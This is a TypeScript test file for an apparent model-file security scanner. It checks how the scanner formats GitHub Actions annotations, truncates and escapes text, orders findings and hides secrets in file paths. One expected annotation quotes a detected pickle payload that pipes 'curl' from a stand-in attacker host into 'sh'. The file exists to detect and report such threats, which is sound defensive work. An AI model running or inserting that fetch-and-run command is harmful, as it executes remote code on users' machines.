import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { annotations, finalError } from '../../src/report/annotations.ts';
import { cutData, workflowCommand } from '../../src/report/command.ts';
import { token } from '../inspect/secret/tokens.ts';
import { parseCommands } from '../support/runner-grammar.ts';
import { hostileText, judged, realistic, reportOf } from './samples.ts';

describe('workflowCommand', () => {
  it('is undone by the runner, whatever the texts', () => {
    fc.assert(
      fc.property(hostileText, hostileText, hostileText, (file, title, data) => {
        fc.pre(!/^[\s=]|[\s=]$/.test(file + title));
        const [command, ...others] = parseCommands(workflowCommand('error', { file, line: 3, title }, data));
        expect(others).toEqual([]);
        expect(command?.data).toBe(data);
        expect(command?.properties['file']).toBe(file === '' ? undefined : file);
        expect(command?.properties['title']).toBe(title === '' ? undefined : title);
      }),
    );
  });

  it('leaves out what has no value', () => {
    expect(workflowCommand('group', {}, 'a')).toBe('::group::a');
    expect(workflowCommand('error', { file: undefined, title: '' }, '')).toBe('::error::');
  });
});

describe('cutData', () => {
  it('cuts by the escaped length, between characters', () => {
    expect(cutData('%%%', 9)).toBe('%%%');
    expect(cutData('%%%', 8)).toBe('%%…');
    expect(cutData('a😀b', 3)).toBe('a…');
    fc.assert(
      fc.property(hostileText, fc.integer({ min: 1, max: 40 }), (input, max) => {
        const cut = workflowCommand('debug', {}, cutData(input, max));
        expect(cut.length - '::debug::'.length).toBeLessThanOrEqual(max);
      }),
    );
  });
});

describe('annotations', () => {
  it('shows what blocks, what needs review and LOW notes; existing and waived findings not', () => {
    const fix = '%0AFix: Do not load it. Ask its author for `safetensors` weights.';
    expect([...annotations(realistic()), finalError(realistic())]).toEqual([
      `::error file=models/a.pt,line=1,title=PICKLE-EXEC%3A Runs a command when loaded::calls os.system("curl https://evil.example/x | sh") when loaded (REDUCE at byte 41)${fix}`,
      '::warning file=train.ipynb,line=40,title=NOTEBOOK-SHELL%3A Runs a shell command::cell 3 runs !pip install $PKG%0AFix: Pin the package.',
      `::notice file=models/a.pt,line=1,title=PICKLE-FORMAT%3A Uses pickle::is a pickle${fix}`,
      '::error title=model-guard::Blocked: 1 finding is CRITICAL, and CRITICAL blocks',
    ]);
  });

  it('leaves INFO notes to the summary', () => {
    expect(annotations(reportOf({ findings: [judged({ disposition: 'note', severity: 'INFO' })] }))).toEqual(
      [],
    );
  });

  it('uses no line of a member as a line of the file', () => {
    const location = { path: 'a.zip', members: ['b.py'], line: 40 };
    expect(annotations(reportOf({ findings: [judged({ location })] }))[0]).toContain('file=a.zip,line=1,');
  });

  it('names no file whose path holds a secret', () => {
    const secret = token('huggingface-user');
    const location = { path: `runs/${secret}.env`, members: [], line: 4 };
    const [command = ''] = annotations(reportOf({ findings: [judged({ location })] }));
    expect(command).toMatch(/^::error title=/);
    expect(command).not.toContain(secret.slice(6));
  });

  it('puts the worst first, then what shows in the diff, then keeps the order', () => {
    const places = [
      ['a', 1, 'HIGH'],
      ['b', 5, 'HIGH'],
      ['c', 1, 'CRITICAL'],
      ['d', 1, 'HIGH'],
    ] as const;
    const findings = places.map(([path, line, severity]) =>
      judged({ severity, location: { path, members: [], line } }),
    );
    const commands = annotations(reportOf({ findings }), (path) => (path === 'b' ? [[5, 5]] : [[2, 9]]));
    expect(commands.map((command) => /file=(\w)/.exec(command)?.[1])).toEqual(['c', 'b', 'a', 'd']);
  });
});
